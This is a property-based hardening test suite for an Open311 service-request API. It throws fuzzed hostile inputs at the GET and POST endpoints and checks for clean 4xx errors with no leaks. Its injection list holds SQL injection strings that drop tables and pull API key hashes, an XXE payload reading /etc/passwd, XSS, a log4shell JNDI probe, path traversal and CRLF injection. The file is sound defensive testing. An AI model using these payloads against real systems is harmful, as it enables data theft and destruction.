// Property-based hardening (fast-check, fixed seed): hostile query strings on every GET endpoint and
// hostile urlencoded, multipart and JSON bodies on both POST endpoints, in both formats, with and without a
// valid key. Whatever arrives: never a 5xx; every error is a 4xx Open311 errors document in the request's
// format; XML is well-formed and carries no character XML forbids; no stack trace, path, SQL or key leaks;
// and the server is still alive afterwards.
import { randomBytes } from 'node:crypto';
import { expect } from 'chai';
import fc from 'fast-check';
import { createApp } from '../../src/app.js';
import { createLogger } from '../../src/logger.js';
import { createRequest, LANCASTER } from '../helpers/build.js';
import { BASE, ctx, testConfig, unique } from '../helpers/test-server.js';
import {
  captureUncaught,
  checkAnswer,
  checkXml,
  expectNoUncaught,
  encodeBytes,
  encodeRaw,
  encodeUtf8,
  listen,
  rawRequest,
  sentForms,
  type Listening,
  type RawAnswer,
} from './support.js';

const SEED = 20261124;

// ---- hostile material ---------------------------------------------------------------------------------

const INJECTIONS = [
  "' OR '1'='1",
  "1' OR 1=1 --",
  '1; DROP TABLE service_requests; --',
  "' UNION SELECT key_hash, key_prefix FROM api_keys --",
  '1) OR pg_sleep(5) IS NULL --',
  '$$; SELECT pg_sleep(1); $$',
  "\\'; INSERT INTO api_keys VALUES (1) --",
  "%' AND 1=CAST((SELECT version()) AS int) --",
  '1::int',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  ']]></description><x>',
  '<![CDATA[',
  '&amp;&lt;&#0;&#x1;&#xFFFE;',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '{"$gt":""}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4shell probe, meant literally
  '${jndi:ldap://x.example/a}',
  '{{7*7}}',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '%',
  '%%',
  '%zz',
  '%E0%A4%A',
  '%C0%AF',
  '%ED%A0%80',
  '%FF%FE',
  '\u0000',
  'a\u0000b',
  '\u0001\u0002\u0007\u0008\u000b\u000c\u001b\u001f',
  '\u007f\u0080\u009f',
  '\uFFFE\uFFFF',
  '\uD800',
  'x\uDFFFy',
  '\uFEFFbom',
  'a\r\nSet-Cookie: x=1',
  '\r\n\r\n',
  '\t\t',
  '\u202Eevil\u202C',
  '\u200B',
  '🦆🏳️‍🌈',
  'Ω≈ç√∫˜µ≤≥÷',
  'جاده',
  '道路',
  'null',
  'undefined',
  'NaN',
  'Infinity',
  '-Infinity',
  '-1',
  '0',
  '-0',
  '1e309',
  '1e-400',
  '0x1F',
  '9'.repeat(400),
  '1,2,3',
  ',,,',
  '[]',
  '{}',
  'true',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  ' ',
  '',
];

const PLAUSIBLE = [
  'SIDEWALK',
  'POTHOLE',
  'open',
  'closed',
  'OPEN,CLOSED',
  'lancasterohio.gov',
  'other.example',
  '2026-11-24',
  '2026-11-24T08:00:00-05:00',
  '2026-11-24T08:00:00 05:00',
  '1900-01-01',
  '9999-12-31T23:59:59Z',
  '2026-02-30',
  '2026-13-01T25:61:61Z',
  String(LANCASTER.lat),
  String(LANCASTER.long),
  '91',
  '-181',
  '50001',
  '1000',
  '1001',
  '-82.62,39.70,-82.58,39.73',
  '-82.62;39.70;-82.58;39.73',
  '1,2,3,4,5',
  'true',
  'false',
  'cb',
  'jQuery123_456',
  'a.b.c',
  '1cb',
];

const hugeString = fc
  .integer({ min: 1000, max: 3500 })
  .chain((length) => fc.constantFrom('A', 'é', '%', '<', '\u0001', '道').map((unit) => unit.repeat(length)));

const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...INJECTIONS) },
  { weight: 3, arbitrary: fc.constantFrom(...PLAUSIBLE) },
  { weight: 3, arbitrary: fc.string({ maxLength: 24 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 16 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 12 }) },
  { weight: 1, arbitrary: hugeString },
);

const QUERY_KEYS = [
  'jurisdiction_id',
  'service_request_id',
  'service_code',
  'status',
  'start_date',
  'end_date',
  'updated_after',
  'updated_before',
  'page',
  'page_size',
  'lat',
  'long',
  'radius',
  'bbox',
  'extensions',
  'callback',
  'api_key',
  '_',
  'format',
  '__proto__',
  'constructor',
  'attribute[a][b][c]',
  'service_request_id[]',
  'status[0]',
];

const deepKey = fc
  .array(fc.oneof(fc.constantFrom('a', 'SIZE', '', '[', ']', '0', '__proto__'), fc.string({ maxLength: 6 })), {
    minLength: 1,
    maxLength: 6,
  })
  .map((parts) => `attribute${parts.map((part) => `[${part}]`).join('')}`);

type Encoding = 'utf8' | 'raw' | 'bytes';
const encoding = fc.constantFrom<Encoding>('utf8', 'utf8', 'raw', 'bytes');

function encodeWith(mode: Encoding, text: string, bytes: Uint8Array): string {
  if (mode === 'bytes') return bytes.length > 0 ? encodeBytes(bytes) : encodeUtf8(text);
  return mode === 'raw' ? encodeRaw(text) : encodeUtf8(text);
}

/** One `key=value` item of a query string or urlencoded body, encoded one of several ways. */
const encodedPair = fc
  .record({
    key: fc.oneof(
      { weight: 5, arbitrary: fc.constantFrom(...QUERY_KEYS) },
      { weight: 1, arbitrary: hostileString },
      { weight: 1, arbitrary: deepKey },
    ),
    value: hostileString,
    keyEncoding: fc.constantFrom<Encoding>('utf8', 'utf8', 'raw'),
    valueEncoding: encoding,
    rawBytes: fc.uint8Array({ maxLength: 8 }),
    shape: fc.constantFrom('pair', 'pair', 'pair', 'pair', 'key-only', 'empty-value', 'double-equals'),
  })
  .map(({ key, value, keyEncoding, valueEncoding, rawBytes, shape }) => {
    const k = encodeWith(keyEncoding, key, rawBytes);
    const v = encodeWith(valueEncoding, value, rawBytes);
    if (shape === 'key-only') return k;
    if (shape === 'empty-value') return `${k}=`;
    if (shape === 'double-equals') return `${k}==${v}`;
    return `${k}=${v}`;
  });

const queryString = fc
  .tuple(fc.array(encodedPair, { maxLength: 8 }), fc.constantFrom('&', '&', '&', ';', '&&'), fc.boolean())
  .map(([pairs, separator, leadingAmp]) => (leadingAmp ? '&' : '') + pairs.join(separator));

// ---- the server ---------------------------------------------------------------------------------------

let server: Listening;
let uncaught: ReturnType<typeof captureUncaught>;
let knownRequestId = '';
let knownToken = '';

const statuses = new Map<number, number>();

async function call(
  method: string,
  path: string,
  headers: Record<string, string> = {},
  body?: string | Buffer,
): Promise<RawAnswer> {
  const answer = await rawRequest(server.port, { method, path, headers, ...(body === undefined ? {} : { body }) });
  statuses.set(answer.status, (statuses.get(answer.status) ?? 0) + 1);
  await expectNoUncaught(uncaught, `${method} ${path.slice(0, 200)}`);
  return answer;
}

/** A path parameter: a known good value, or hostile text encoded one way or another. */
const pathParameter = fc
  .oneof(
    {
      weight: 2,
      arbitrary: fc.constantFrom(
        'POTHOLE',
        'SIDEWALK',
        'MISSED_TRASH',
        'KNOWN_ID',
        'KNOWN_TOKEN',
        '1',
        '0',
        '-1',
        '999999999999999999999',
        'A.B',
      ),
    },
    {
      weight: 3,
      arbitrary: fc
        .tuple(hostileString, encoding, fc.uint8Array({ minLength: 1, maxLength: 8 }))
        .map(([text, mode, bytes]) => (mode === 'raw' ? encodeRaw(text, '&#= /?') : encodeWith(mode, text, bytes))),
    },
  )
  .filter((value) => value !== '' && value !== '.' && value !== '..');

const resolvePathParameter = (value: string): string =>
  value === 'KNOWN_ID' ? knownRequestId : value === 'KNOWN_TOKEN' ? knownToken : value;

const getEndpoint = fc.oneof(
  fc.constant('discovery'),
  fc.constant('services'),
  pathParameter.map((value) => `services/${value}`),
  fc.constant('requests'),
  pathParameter.map((value) => `requests/${value}`),
  pathParameter.map((value) => `tokens/${value}`),
  fc.constant('servicerequestupdates'),
);

const getFormat = fc.oneof(
  { weight: 12, arbitrary: fc.constantFrom('json', 'xml') },
  { weight: 1, arbitrary: fc.constantFrom('geojson', 'csv', 'XML', 'Json', 'html', '') },
);

const printableHeader = fc.string({ unit: 'binary-ascii', maxLength: 80 }).map((text) => text.replace(/[^\x20-\x7e]/g, ''));

const extraHeaders = fc.record(
  {
    'If-None-Match': fc.oneof(printableHeader, fc.constantFrom('*', 'W/"x"', '"abc", W/"def"')),
    'If-Modified-Since': fc.oneof(
      printableHeader,
      fc.constantFrom('Thu, 01 Jan 1970 00:00:00 GMT', 'Fri, 31 Dec 9999 23:59:59 GMT', 'yesterday'),
    ),
    'X-Request-Id': printableHeader,
    Accept: fc.constantFrom('*/*', 'text/html', 'application/json', 'text/xml', 'application/xml;q=0.1, */*;q=0'),
    'Accept-Encoding': fc.constantFrom('gzip', 'identity', 'br;q=1, *;q=0'),
  },
  { requiredKeys: [] },
);

const FORBIDDEN_ANSWERS = new Set<number>([500, 501, 502, 503, 504]);

describe('hardening: property-based (fast-check)', function () {
  this.timeout(180_000);

  before(async () => {
    uncaught = captureUncaught();
    // The suite's store, with a short request timeout: an input that makes the server hang fails in
    // 3 s (503) instead of 30 s, so fast-check can shrink it.
    server = await listen(
      createApp({ config: testConfig({ REQUEST_TIMEOUT_MS: '3000' }), db: ctx().db, logger: createLogger('silent') }).app,
    );
    knownRequestId = await createRequest({ description: unique('property-known') });
    const batch = await call(
      'POST',
      `${BASE}/requests.json`,
      { 'Content-Type': 'application/x-www-form-urlencoded' },
      new URLSearchParams({
        api_key: ctx().apiKey,
        service_code: 'MISSED_TRASH',
        address_string: '215 N Broad St',
        'attribute[COLLECTION_TYPE][]': 'TRASH',
        description: unique('property-token'),
      }).toString(),
    );
    expect(batch.status, batch.text).to.equal(200);
    knownToken = (JSON.parse(batch.text) as Array<{ token: string }>)[0]!.token;
  });

  after(async () => {
    await server.close();
    uncaught.restore();
    if (process.env.HARDENING_STATS) console.log('statuses', [...statuses].sort());
  });

  // ---- POST bodies (first: the rows they create make the GET feeds below more hostile) -------------------

  type Auth = 'body' | 'bearer' | 'query' | 'none' | 'wrong' | 'empty';
  const auth = fc.constantFrom<Auth>('body', 'body', 'bearer', 'query', 'none', 'wrong', 'empty');
  const postTarget = fc.record({
    endpoint: fc.constantFrom('requests', 'requests', 'servicerequestupdates'),
    format: fc.oneof(
      { weight: 10, arbitrary: fc.constantFrom('json', 'xml') },
      { weight: 1, arbitrary: fc.constantFrom('geojson', 'csv', '') },
    ),
    auth,
    validBase: fc.boolean(),
    idempotencyKey: fc.option(fc.oneof(printableHeader, fc.constant('k'.repeat(300))), { freq: 5 }),
  });

  const POST_KEYS = [
    'service_code',
    'lat',
    'long',
    'address_string',
    'address_id',
    'zipcode',
    'description',
    'title',
    'email',
    'phone',
    'first_name',
    'last_name',
    'device_id',
    'account_id',
    'media_url',
    'jurisdiction_id',
    'attribute[SIZE]',
    'attribute[LANES][]',
    'attribute[DEPTH]',
    'attribute[COLLECTION_DATE]',
    'attribute[]',
    'attribute[',
    'attribute]]',
    'attribute[[x]]',
    'service_request_id',
    'update_id',
    'update_id_ext',
    'status',
    'updated_datetime',
    'api_key',
  ];

  const bodyPair = fc.tuple(
    fc.oneof(
      { weight: 6, arbitrary: fc.constantFrom(...POST_KEYS) },
      { weight: 1, arbitrary: hostileString },
      { weight: 2, arbitrary: deepKey },
    ),
    hostileString,
  );

  interface Target {
    endpoint: string;
    format: string;
    auth: Auth;
    validBase: boolean;
    idempotencyKey: string | null;
  }

  /** The key, where it goes, and the valid fields a realistic client would send, per target. */
  function prepare(
    target: Target,
    pairs: Array<[string, string]>,
  ): { path: string; pairs: Array<[string, string]>; headers: Record<string, string>; secrets: string[] } {
    const wrongKey = `o311_${randomBytes(18).toString('base64url')}`;
    const base: Array<[string, string]> = !target.validBase
      ? []
      : target.endpoint === 'requests'
        ? [
            ['service_code', 'SIDEWALK'],
            ['lat', String(LANCASTER.lat)],
            ['long', String(LANCASTER.long)],
          ]
        : [
            ['service_request_id', knownRequestId],
            ['update_id', unique('property-update')],
            ['status', 'open'],
            ['updated_datetime', new Date().toISOString()],
          ];
    const all: Array<[string, string]> = [...base, ...pairs];
    const headers: Record<string, string> = {};
    let path = `${BASE}/${target.endpoint}${target.format === '' ? '' : `.${target.format}`}`;
    if (target.auth === 'body') all.unshift(['api_key', ctx().apiKey]);
    if (target.auth === 'wrong') all.unshift(['api_key', wrongKey]);
    if (target.auth === 'empty') all.unshift(['api_key', '']);
    if (target.auth === 'bearer') headers.Authorization = `Bearer ${ctx().apiKey}`;
    if (target.auth === 'query') path += `?api_key=${encodeURIComponent(ctx().apiKey)}`;
    if (target.idempotencyKey !== null) headers['Idempotency-Key'] = target.idempotencyKey;
    return { path, pairs: all, headers, secrets: [wrongKey] };
  }

  async function checkPost(
    path: string,
    headers: Record<string, string>,
    body: string | Buffer,
    secrets: string[],
    context: string,
  ): Promise<void> {
    const answer = await call('POST', path, headers, body);
    const sent = sentForms(path, body, ...Object.values(headers));
    await checkAnswer(answer, { path, sent, apiKey: ctx().apiKey, context: `${context} POST ${path}` });
    for (const secret of secrets) expect(answer.text.includes(secret), `${context}: a sent API key is echoed`).to.equal(false);
    expect(FORBIDDEN_ANSWERS.has(answer.status)).to.equal(false);
  }

  it('POST urlencoded bodies: any keys, values and encodings → 2xx or a 4xx errors document in the format asked', async () => {
    await fc.assert(
      fc.asyncProperty(
        postTarget,
        fc.array(bodyPair, { maxLength: 10 }),
        fc.array(fc.tuple(encoding, encoding, fc.uint8Array({ maxLength: 6 })), { minLength: 12, maxLength: 12 }),
        fc.constantFrom(
          'application/x-www-form-urlencoded',
          'application/x-www-form-urlencoded; charset=ISO-8859-1',
          'text/plain',
          '',
          'application/x-www-form-urlencoded; charset=utf-8',
        ),
        async (target, randomPairs, encodings, contentType) => {
          const { path, pairs, headers, secrets } = prepare(target, randomPairs);
          const body = pairs
            .map(([key, value], index) => {
              const [keyMode, valueMode, bytes] = encodings[index % encodings.length]!;
              // api_key and the valid base stay decodable; the rest is encoded any way at all
              const plain = index < pairs.length - randomPairs.length;
              return `${plain ? encodeUtf8(key) : encodeWith(keyMode === 'bytes' ? 'utf8' : keyMode, key, bytes)}=${plain ? encodeUtf8(value) : encodeWith(valueMode, value, bytes)}`;
            })
            .join('&');
          if (contentType !== '') headers['Content-Type'] = contentType;
          await checkPost(path, headers, body, secrets, 'urlencoded');
        },
      ),
      { seed: SEED, numRuns: 100 },
    );
  });

  it('POST multipart bodies (fields, files, broken framing) → 2xx or a 4xx errors document in the format asked', async () => {
    const part = fc.oneof(
      { weight: 5, arbitrary: bodyPair.map(([name, value]) => ({ kind: 'field' as const, name, value })) },
      {
        weight: 1,
        arbitrary: fc.record({
          kind: fc.constant('file' as const),
          name: fc.constantFrom('media', 'media[]', 'photo1', 'description', 'x"y', ''),
          filename: fc.oneof(
            fc.constantFrom('a.jpg', '../../etc/passwd', 'x".png', '', '\u0001.gif'),
            fc.string({ maxLength: 10 }),
          ),
          type: fc.constantFrom('image/jpeg', 'image/png', 'application/octet-stream', 'text/html', ''),
          bytes: fc.oneof(
            fc.uint8Array({ maxLength: 64 }),
            fc.constant(new Uint8Array([0xff, 0xd8, 0xff, 0xe0, 0, 0x10, 0x4a, 0x46, 0x49, 0x46, 0])),
            fc.constant(new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0])),
            fc.constant(new Uint8Array(Buffer.from('GIF89a\u0001\u0000\u0001\u0000', 'latin1'))),
          ),
        }),
      },
    );
    await fc.assert(
      fc.asyncProperty(
        postTarget,
        fc.array(part, { maxLength: 8 }),
        fc.constantFrom('ok', 'ok', 'ok', 'no-closing', 'wrong-boundary', 'no-boundary', 'garbage', 'crlf-in-name', 'empty'),
        async (target, parts, framing) => {
          const fieldPairs = parts
            .filter((item) => item.kind === 'field')
            .map((item) => [item.name, item.value] as [string, string]);
          const { path, pairs, headers, secrets } = prepare(target, fieldPairs);
          const boundary = `----b0undary${randomBytes(6).toString('hex')}`;
          const chunks: Buffer[] = [];
          const quote = (text: string): string =>
            framing === 'crlf-in-name' ? text : text.replace(/[\r\n"]/g, (c) => encodeURIComponent(c));
          const baseCount = pairs.length - fieldPairs.length;
          for (const [name, value] of pairs.slice(0, baseCount)) {
            chunks.push(
              Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${quote(name)}"\r\n\r\n${value}\r\n`, 'utf8'),
            );
          }
          for (const item of parts) {
            if (item.kind === 'field') {
              chunks.push(
                Buffer.from(
                  `--${boundary}\r\nContent-Disposition: form-data; name="${quote(item.name)}"\r\n\r\n${item.value}\r\n`,
                  'utf8',
                ),
              );
            } else {
              chunks.push(
                Buffer.from(
                  `--${boundary}\r\nContent-Disposition: form-data; name="${quote(item.name)}"; filename="${quote(item.filename)}"\r\n${item.type ? `Content-Type: ${item.type}\r\n` : ''}\r\n`,
                  'utf8',
                ),
                Buffer.from(item.bytes),
                Buffer.from('\r\n'),
              );
            }
          }
          if (framing !== 'no-closing') chunks.push(Buffer.from(`--${boundary}--\r\n`));
          let body = Buffer.concat(chunks);
          let contentType = `multipart/form-data; boundary=${boundary}`;
          if (framing === 'wrong-boundary') contentType = 'multipart/form-data; boundary=somethingelse';
          if (framing === 'no-boundary') contentType = 'multipart/form-data';
          if (framing === 'garbage')
            body = Buffer.concat([Buffer.from('\u0000\u00ff garbage \r\n--\r\n'), body.subarray(0, Math.floor(body.length / 2))]);
          if (framing === 'empty') body = Buffer.alloc(0);
          await checkPost(path, { ...headers, 'Content-Type': contentType }, body, secrets, `multipart/${framing}`);
        },
      ),
      { seed: SEED, numRuns: 80 },
    );
  });

  it('POST JSON bodies (wrong types, nesting, deep attribute keys, broken JSON) → 2xx or a 4xx errors document in the format asked', async () => {
    const wrongType = fc.oneof(
      hostileString,
      fc.integer(),
      fc.double(),
      fc.boolean(),
      fc.constant(null),
      fc.array(hostileString, { maxLength: 3 }),
      fc.jsonValue({ maxDepth: 3 }),
    );
    const nestedAttributes = fc.oneof(
      fc.constant({}),
      fc.constant({ attribute: { a: { b: { c: 'x' } } } }),
      fc.constant({ attributes: [1, 2, 3] }),
      fc.constant({ attribute: null }),
      fc.constant({ 'attribute[a][b][c]': 'x', 'attribute[SIZE]': ['LARGE', 'SMALL'] }),
      fc
        .dictionary(
          fc.oneof(fc.constantFrom('SIZE', 'LANES', 'DEPTH', '__proto__', ''), fc.string({ maxLength: 8 })),
          wrongType,
          { maxKeys: 4 },
        )
        .map((attribute) => ({ attribute })),
      fc
        .integer({ min: 1, max: 2000 })
        .map((depth) => ({ attribute: { DEEP: JSON.parse('['.repeat(depth) + '"x"' + ']'.repeat(depth)) as unknown } })),
    );
    const jsonText = fc.oneof(
      {
        weight: 8,
        arbitrary: fc
          .tuple(
            fc.array(fc.tuple(fc.oneof(fc.constantFrom(...POST_KEYS), hostileString), wrongType), { maxLength: 8 }),
            nestedAttributes,
          )
          .map(([entries, nested]) => ({ entries, nested })),
      },
      {
        weight: 1,
        arbitrary: fc.constantFrom(
          '{',
          '{"description":',
          'null',
          '[]',
          '[{"service_code":"SIDEWALK"}]',
          '"text"',
          '42',
          'true',
          '{"a":1}garbage',
          '\uFEFF{}',
          '{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}',
          '{"description":"\\ud800"}',
          '{"description":"\\u0000"}',
          '{"description":"\\u0001\\u001f"}',
          '{"lat":1e999,"long":-1e999}',
          '\u0000',
          '',
        ),
      },
    );
    await fc.assert(
      fc.asyncProperty(
        postTarget,
        jsonText,
        fc.constantFrom('application/json', 'application/json; charset=utf-8', 'application/vnd.api+json', 'application/xml'),
        async (target, json, contentType) => {
          let body: string;
          let secrets: string[];
          let path: string;
          let headers: Record<string, string>;
          if (typeof json === 'string') {
            ({ path, headers, secrets } = prepare(target, []));
            body = json;
          } else {
            const prepared = prepare(target, []);
            ({ path, headers, secrets } = prepared);
            const object: Record<string, unknown> = {};
            for (const [key, value] of prepared.pairs) object[key] = value;
            for (const [key, value] of json.entries)
              Object.defineProperty(object, key, { value, enumerable: true, configurable: true, writable: true });
            Object.assign(object, json.nested);
            body = JSON.stringify(object);
          }
          await checkPost(path, { ...headers, 'Content-Type': contentType }, body, secrets, 'json');
        },
      ),
      { seed: SEED, numRuns: 100 },
    );
  });

  // ---- GET query strings ----------------------------------------------------------------------------

  it('GET every GeoReport endpoint with hostile query strings, in .json and .xml → 2xx/304 or a 4xx errors document', async () => {
    await fc.assert(
      fc.asyncProperty(
        getEndpoint,
        getFormat,
        queryString,
        extraHeaders,
        fc.constantFrom('GET', 'GET', 'GET', 'GET', 'GET', 'GET', 'GET', 'DELETE', 'PUT', 'PATCH', 'OPTIONS'),
        async (endpoint, format, query, headers, method) => {
          const [head, parameter] = endpoint.split('/') as [string, string | undefined];
          const resource = parameter === undefined ? head : `${head}/${resolvePathParameter(parameter)}`;
          const path = `${BASE}/${resource}${format === '' ? '' : `.${format}`}${query === '' ? '' : `?${query}`}`;
          fc.pre(path.length < 12_000);
          const answer = await call(method, path, headers);
          await checkAnswer(answer, {
            path,
            sent: sentForms(path, ...Object.values(headers)),
            apiKey: ctx().apiKey,
            context: `${method} ${path.slice(0, 300)}`,
          });
        },
      ),
      { seed: SEED, numRuns: 150 },
    );
  });

  it('GET requests.geojson and the bulk CSV with hostile query strings → 2xx/304 or a 4xx errors document', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom(`${BASE}/requests.geojson`, '/open311/bulk/requests.csv'),
        queryString,
        async (base, query) => {
          const path = `${base}${query === '' ? '' : `?${query}`}`;
          fc.pre(path.length < 12_000);
          const answer = await call('GET', path);
          // The bulk export lives outside the GeoReport base: its errors are XML, the one format every client reads.
          await checkAnswer(answer, { path, sent: sentForms(path), apiKey: ctx().apiKey, context: `GET ${path.slice(0, 300)}` });
        },
      ),
      { seed: SEED, numRuns: 60 },
    );
  });

  // ---- hostile inputs the properties found, kept as plain examples --------------------------------------

  /** A multipart body from raw part headers and values. */
  function rawMultipart(parts: string[], close = true): { body: Buffer; contentType: string } {
    const boundary = `----known${randomBytes(6).toString('hex')}`;
    const text = parts.map((part) => `--${boundary}\r\n${part}\r\n`).join('') + (close ? `--${boundary}--\r\n` : '');
    return { body: Buffer.from(text, 'utf8'), contentType: `multipart/form-data; boundary=${boundary}` };
  }
  const keyPart = (): string => `Content-Disposition: form-data; name="api_key"\r\n\r\n${ctx().apiKey}`;

  for (const format of ['json', 'xml'] as const) {
    it(`multipart body cut off inside a file part (no closing boundary) → 400 errors document, no uncaught exception (.${format})`, async () => {
      const { body, contentType } = rawMultipart(
        [keyPart(), 'Content-Disposition: form-data; name="media"; filename="a.gif"\r\nContent-Type: image/gif\r\n\r\nGIF89a'],
        false,
      );
      const path = `${BASE}/requests.${format}`;
      const answer = await call('POST', path, { 'Content-Type': contentType }, body);
      expect(answer.status, answer.text).to.equal(400);
      await checkAnswer(answer, { path, sent: '', apiKey: ctx().apiKey, context: 'cut-off multipart' });
    });

    it(`multipart part with an empty or missing name → a prompt 4xx errors document, not a hang or a 5xx (.${format})`, async () => {
      for (const part of [
        'Content-Disposition: form-data; name=""\r\n\r\nvalue',
        'Content-Disposition: form-data\r\n\r\nvalue',
        'Content-Disposition: form-data; name=""; filename="a.gif"\r\nContent-Type: image/gif\r\n\r\nGIF89a',
      ]) {
        const { body, contentType } = rawMultipart([
          keyPart(),
          'Content-Disposition: form-data; name="service_code"\r\n\r\nSIDEWALK',
          part,
        ]);
        const path = `${BASE}/requests.${format}`;
        const started = Date.now();
        const answer = await call('POST', path, { 'Content-Type': contentType }, body);
        expect(Date.now() - started, `${part}: answered only after the request timeout`).to.be.below(2500);
        await checkAnswer(answer, { path, sent: '', apiKey: ctx().apiKey, context: part });
        expect(answer.status, `${part}: ${answer.text}`).to.be.within(400, 499);
      }
    });
  }

  // ---- afterwards ------------------------------------------------------------------------------------

  it('the public feeds stay well-formed after the hostile rows above were stored', async () => {
    for (const path of [
      `${BASE}/requests.xml`,
      `${BASE}/requests.xml?extensions=true`,
      `${BASE}/servicerequestupdates.xml`,
      `${BASE}/requests/${knownRequestId}.xml?extensions=true`,
      `${BASE}/requests.json?extensions=true`,
      `${BASE}/requests.geojson`,
      '/open311/bulk/requests.csv',
    ]) {
      const answer = await call('GET', path);
      expect(answer.status, `${path}: ${answer.text.slice(0, 300)}`).to.equal(200);
      if (path.includes('.xml')) await checkXml(answer, path);
      else if (!path.endsWith('.csv')) JSON.parse(answer.text);
      await checkAnswer(answer, { path, sent: path, apiKey: ctx().apiKey, context: path });
    }
  });

  it('the server is still up: /healthz 200 and /readyz 200', async () => {
    const health = await call('GET', '/healthz');
    expect(health.status).to.equal(200);
    expect(JSON.parse(health.text)).to.deep.equal({ status: 'ok' });
    const ready = await call('GET', '/readyz');
    expect(ready.status).to.equal(200);
  });
});
